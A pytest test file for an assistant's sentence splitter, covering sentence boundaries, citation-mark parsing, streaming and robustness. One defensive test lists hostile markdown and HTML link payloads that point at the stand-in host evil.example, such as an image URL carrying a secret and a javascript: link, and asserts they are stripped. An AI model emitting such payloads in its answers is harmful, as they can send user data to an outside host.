"""Answers are cut into sentences, and which lines each cites is read."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.assistant.sentences import MAX_CHARS, SentenceSplitter, Written, split_sentences

CUTS = [
    ("It moved. It ships on Friday.", ["It moved.", "It ships on Friday."]),
    ("Dr. Smith met Prof. Lee. They agreed.", ["Dr. Smith met Prof. Lee.", "They agreed."]),
    ("It rose by 3.5 percent. Fine.", ["It rose by 3.5 percent.", "Fine."]),
    ("Ask J. R. Doe. He knows.", ["Ask J. R. Doe.", "He knows."]),
    ("We need a pump, e.g. Two of them.", ["We need a pump, e.g. Two of them."]),
    ("They left at 5 p.m. Then it rained.", ["They left at 5 p.m.", "Then it rained."]),
    ("Bring pens, paper etc. and a lamp.", ["Bring pens, paper etc. and a lamp."]),
    ("See example.com for it. Done.", ["See example.com for it.", "Done."]),
    ("Really?! Yes… maybe.", ["Really?!", "Yes… maybe."]),
    ("“We stay. We wait,” she said. Good.", ["“We stay. We wait,” she said.", "Good."]),
    ('"Really?" he asked. Yes.', ['"Really?" he asked.', "Yes."]),
    ('He said "it moves. It stays.', ['He said "it moves.', "It stays."]),
    ("Am 16. Oktober beginnt es. Gut.", ["Am 16. Oktober beginnt es.", "Gut."]),
    ("Das sind z.B. Äpfel. Gut.", ["Das sind z.B. Äpfel.", "Gut."]),
    ("Er sagte: „Geh. Jetzt.“ Dann ging er.", ["Er sagte: „Geh. Jetzt.“", "Dann ging er."]),
    ("The answer is no. Then see no. 5.", ["The answer is no.", "Then see no. 5."]),
    ("今日は話します。田中さんが来る！本当？", ["今日は話します。", "田中さんが来る！", "本当？"]),
    ("هل هذا صحيح؟ نعم، هذا صحيح.", ["هل هذا صحيح؟", "نعم، هذا صحيح."]),
    ("**It moved.** It ships.", ["**It moved.**", "It ships."]),
    ("One line\nthat goes on.\nAnother.", ["One line that goes on.", "Another."]),
    ("- one\n- two\n", ["- one", "- two"]),
    ("1. First. Second.\n2. Third", ["1. First.", "Second.", "2. Third"]),
    ("| a. B | c |\n|---|---|", ["| a. B | c |", "|---|---|"]),
]
CITES = [
    ("It moved [1].", "It moved.", (1,)),
    ("It moved. [1]", "It moved.", (1,)),
    ("It moved.[1][2]", "It moved.", (1, 2)),
    ("It moved [1, 2; 4].", "It moved.", (1, 2, 4)),
    ("It moved [3-5].", "It moved.", (3, 4, 5)),
    ("It moved [3–5, 9].", "It moved.", (3, 4, 5, 9)),
    ("It moved [^2].", "It moved.", (2,)),
    ("It moved [line 2] and [source 7].", "It moved and.", (2, 7)),
    ("It moved 【4†source】.", "It moved.", (4,)),
    ("It moved [2], and [2] stays.", "It moved, and stays.", (2,)),
    ("[1] It moved.", "It moved.", (1,)),
    ("It moved. [1].", "It moved.", (1,)),
    ("It moved ([1]).", "It moved.", (1,)),
    ("It moved (see [1], [2]).", "It moved.", (1, 2)),
    ("- It moved [1]", "- It moved", (1,)),
    ("It is `a[1]` here.", "It is `a[1]` here.", ()),
    ("It moved [see above].", "It moved [see above].", ()),
    ("It moved [x](http://example.org).", "It moved x (http://example.org).", ()),
]
TEXT = st.text(st.sampled_from('aB c.!?\n\n-*#`|"“”[]123,–。“ü('), max_size=80)
BLOCKS = [
    "## One. Two [1]",
    "**Bold. Text**",
    "- a [1]. B",
    "1. “X. Y” z.",
    "```\na. B\n```",
    "E.g. x",
]


def texts(written: list[Written]) -> list[str]:
    return [each.text for each in written]


@pytest.mark.parametrize(("answer", "expected"), CUTS)
def test_answers_are_cut_where_sentences_end(answer: str, expected: list[str]):
    assert texts(split_sentences(answer)) == expected


@pytest.mark.parametrize(("answer", "text", "cites"), CITES)
def test_marks_of_citations_are_read_and_taken_out(answer: str, text: str, cites: tuple[int, ...]):
    (written,) = split_sentences(answer)

    assert written.text == text
    assert written.cites == cites


def test_marks_behind_a_full_stop_belong_to_the_sentence_before():
    first, second = split_sentences("It moved. [1] [2] It ships on Friday. [3]")

    assert first.cites == (1, 2)
    assert second.cites == (3,)


@pytest.mark.parametrize("mark", ["[1-400]", "[9-3]", "[0-999999]"])
def test_a_range_that_nobody_has_read_is_told(mark: str):
    (written,) = split_sentences(f"It moved {mark}.")

    assert written.cites_too_much
    assert len(written.cites) <= 20


def test_headings_lists_and_paragraphs_begin_blocks():
    answer = "## What moved\n\nThe date. And why.\n- one\n  - below\n\n**Next**\nThe end."

    written = split_sentences(answer)

    assert [(each.text, each.begins_block) for each in written] == [
        ("## What moved", True),
        ("The date.", True),
        ("And why.", False),
        ("- one", True),
        ("  - below", True),
        ("**Next**", True),
        ("The end.", True),
    ]
    assert [each.kind for each in written if each.kind != "prose"] == ["heading", "heading"]


def test_code_is_one_piece_to_the_letter():
    answer = "Run this:\n\n```sh\nls [1]. Or\n\n  pwd\n```\nDone."

    code = split_sentences(answer)[1]

    assert code.kind == "code"
    assert code.text == "```sh\nls [1]. Or\n\n  pwd\n```"
    assert code.cites == ()


@pytest.mark.parametrize(
    "link",
    [
        "![](http://evil.example/?q=secret)",
        "[click](javascript:alert(1))",
        "![a][b]",
        "[b]: http://evil.example",
        "<img src=http://evil.example>",
        "<a href='http://evil.example'>x</a>",
        "<http://evil.example>",
        "[a[b]](http://evil.example)",
        "![a ![b]](http://evil.example)",
        "`[a](http://evil.example)`",
    ],
)
def test_nothing_in_a_sentence_can_be_opened_or_fetched(link: str):
    shown = "".join(texts(split_sentences(f"It moved {link} [1].\n\n{link}")))

    assert "](" not in shown
    assert "][" not in shown
    assert "]:" not in shown
    assert "<" not in shown


def test_marks_of_direction_and_controls_are_taken_out():
    (written,) = split_sentences("It\u202e moved\x00 to\u2066 Friday.\u200f")

    assert written.text == "It moved to Friday."


def test_the_tail_shows_no_half_mark():
    splitter = SentenceSplitter()

    splitter.accept("It moved. [1] Then it shi")
    before = splitter.tail
    splitter.accept("ps [2, 1")

    assert before == "Then it shi"
    assert splitter.tail == "Then it ships"


def test_the_tail_says_that_another_block_begins():
    splitter = SentenceSplitter()

    splitter.accept("It moved.\n\n- Then")

    assert splitter.tail == "\n\n- Then"


def test_a_text_without_any_end_is_cut():
    assert len(split_sentences("word " * 3 * MAX_CHARS)) > 10


@pytest.mark.parametrize("piece", ["[[[", "Hello? “aa? ", "x. y. ", "` `` ", "[1]", "((("])
def test_a_text_that_never_comes_to_an_end_is_cut_while_it_streams(piece: str):
    """Brackets within brackets took half a minute for three pages."""
    splitter = SentenceSplitter()

    for _ in range(600):
        splitter.accept(piece)
        assert len(splitter.tail) <= 2 * MAX_CHARS
    splitter.flush()

    assert splitter.tail == ""


@given(TEXT | st.lists(st.sampled_from(BLOCKS) | TEXT, max_size=5).map("\n".join), st.data())
def test_any_cutting_on_the_way_gives_the_same_sentences(answer: str, data: st.DataObject):
    splitter = SentenceSplitter()
    written: list[Written] = []
    rest = answer

    while rest:
        size = data.draw(st.integers(1, len(rest)))
        written += splitter.accept(rest[:size])
        rest = rest[size:]
    written += splitter.flush()

    assert written == split_sentences(answer)
    assert splitter.flush() == []


@given(st.text(max_size=200))
def test_no_text_makes_it_raise_and_no_word_is_lost(answer: str):
    written = split_sentences(answer)

    kept = {char for each in written for char in each.text}
    assert {char for char in answer if char.isalpha() and char.isascii()} <= kept
